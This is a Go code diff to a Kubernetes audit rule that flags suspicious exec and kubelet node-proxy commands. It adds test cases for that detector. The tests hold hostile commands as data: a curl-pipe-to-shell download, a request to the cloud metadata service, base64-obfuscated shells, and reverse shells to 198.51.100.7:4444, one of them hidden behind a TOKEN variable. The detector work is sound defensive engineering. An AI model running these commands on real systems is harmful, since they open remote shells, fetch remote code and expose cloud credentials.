@@ -14,8 +14,7 @@ var SuspiciousCommand = rule.Detection{
 	Origin:   rule.Ours,
 	Severity: finding.SeverityHigh,
 	Grade: func(a *rule.Action) finding.Severity {
-		c, _ := a.Command()
-		if s := suspicionOf(c.Args); s != nil {
+		if s := suspicionOf(a.Arguments()); s != nil {
 			return s.severity
 		}
 		return finding.SeverityMedium
@@ -40,7 +39,7 @@ var SuspiciousCommand = rule.Detection{
 		PT: "Detenha o usuário e o pod; depois descubra o que foi executado\n\nAja de imediato: o que um comando assim começa continua após a sessão. Depois execute merlon detect com --keep-commands sobre o registro para ver o comando inteiro.",
 	}, `
 merlon detect --keep-commands AUDIT.log
-`, shutOut(), isolatePod()),
+`, shutOut(), isolatePod(), replaceWorkload()),
 	On: []rule.Selector{
 		{Verbs: []string{"get", "create"}, Resources: []string{"pods/exec"}},
 		{Resources: []string{"nodes/proxy"}}, // The kubelet runs commands too.
@@ -88,6 +87,27 @@ merlon detect --keep-commands AUDIT.log
 			Input:    execOf("get", 101, "sh", "-c", "curl -s https://198.51.100.7/i.sh | sh"),
 			Want:     finding.Present,
 			Severity: graded(finding.SeverityMedium),
+		},
+		{
+			Name:  "a question to the metadata service, by the kubelet's API, its path written in another way",
+			Input: nodeProxy(record{Verb: "create"}, "/%72un/shop/web-0/main?cmd=curl+http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
+			Want:  finding.Present,
+		},
+		{
+			Name:     "a command packed in base64",
+			Input:    execOf("get", 101, "bash", "-c", "{echo,aWQK}|{base64,-d}|{bash,-i}"),
+			Want:     finding.Present,
+			Severity: graded(finding.SeverityMedium),
+		},
+		{
+			Name:  "a reverse shell packed in base64",
+			Input: execOf("get", 101, "sh", "-c", "echo${IFS}YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx|base64${IFS}-d|/bin/sh"),
+			Want:  finding.Present,
+		},
+		{
+			Name:  "a reverse shell that calls itself a token, so that it is masked",
+			Input: execOf("get", 101, "bash", "-c", `TOKEN='bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'; eval "$TOKEN"`),
+			Want:  finding.Present,
 		},
 		{
 			Name:   "a shell",
